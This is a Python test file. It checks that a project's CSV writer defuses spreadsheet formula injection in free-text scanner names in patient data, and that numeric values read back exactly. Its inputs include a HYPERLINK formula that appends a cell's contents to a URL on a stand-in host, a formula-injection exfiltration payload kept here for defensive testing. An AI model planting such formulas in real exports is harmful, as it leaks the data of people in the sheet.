"""Tables as CSV: what is read is what was written, and a spreadsheet works nothing out of it."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from normfed_server.paper.tables import write_csv


def test_no_text_of_somebody_else_is_a_formula_in_a_spreadsheet_and_all_else_is_as_it_was(tmp_path: Path) -> None:
    """The name of a scanner is free text of a dataset, and stands beside ages: a formula may send these elsewhere."""
    scanners = ['=HYPERLINK("https://there/?"&A2,"see")', "@SUM(A1)", "+1", "-2", "Prisma-fit =3T", None]
    values = [-0.5, 1e-9, float("nan"), 3.0, 0.1 + 0.2, -1.0]
    path = write_csv(tmp_path, "patients", pd.DataFrame({"scanner": scanners, "value": values, "n": range(6)}))
    with path.open(newline="") as file:
        cells = [row["scanner"] for row in csv.DictReader(file)]
    assert cells == [*(f"'{name}" for name in scanners[:4]), "Prisma-fit =3T", ""]
    read = pd.read_csv(path)
    pd.testing.assert_series_equal(read["value"], pd.Series(values, name="value"), check_exact=True)
    assert read["n"].tolist() == list(range(6))
